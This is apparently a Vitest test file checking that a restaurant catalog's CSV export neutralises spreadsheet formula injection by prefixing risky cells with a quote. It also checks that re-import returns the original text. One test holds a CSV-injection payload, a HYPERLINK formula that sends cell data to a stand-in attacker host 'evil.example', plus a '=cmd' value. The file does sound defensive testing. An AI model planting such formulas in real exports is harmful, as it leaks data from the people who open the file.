import { describe, expect, it } from 'vitest';
import { csvToItems, type ItemImportLike, itemsToCsv, parseCsv } from '../../domain/catalog-csv';

const item = (over: Partial<ItemImportLike>): ItemImportLike => ({
  category: 'Mains',
  name: 'Noodles',
  price: 1800,
  ...over,
});

/** The exported cells of the first item, by column. */
function exported(i: ItemImportLike) {
  const [header, row] = parseCsv(itemsToCsv([i])).records;
  return Object.fromEntries(header!.fields.map((f, n) => [f, row!.fields[n]!]));
}

describe('catalog CSV export is safe to open in a spreadsheet (OWASP CSV injection)', () => {
  it('a dish named like a formula is written as text, with a leading quote', () => {
    // Before: the cell was written as is, and Excel ran it when the manager opened the export.
    const cells = exported(
      item({
        name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        description: '+1 spicy',
        category: '@SUM(1+1)',
        tags: ['-2+3'],
        imageUrl: '\t=cmd',
      }),
    );
    expect(cells.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(cells.description).toBe("'+1 spicy");
    expect(cells.category).toBe("'@SUM(1+1)");
    expect(cells.tags).toBe("'-2+3");
    expect(cells.image_url).toBe("'\t=cmd");
  });

  it('numeric columns keep real negative numbers as numbers', () => {
    const cells = exported(item({ sort: -5, price: 0 }));
    expect(cells.sort).toBe('-5');
    expect(cells.price).toBe('0');
  });

  it('re-importing the export gives back exactly the text the manager typed', () => {
    const tricky = item({
      name: '=1+1',
      description: "'=already quoted",
      category: "'plain quote",
      tags: ['@home', 'ok'],
      sort: -2,
    });
    const { rows, errors } = csvToItems(itemsToCsv([tricky]));
    expect(errors).toEqual([]);
    expect(rows[0]!.value).toMatchObject({
      name: '=1+1',
      description: "'=already quoted",
      category: "'plain quote",
      tags: ['@home', 'ok'],
      sort: -2,
    });
  });
});
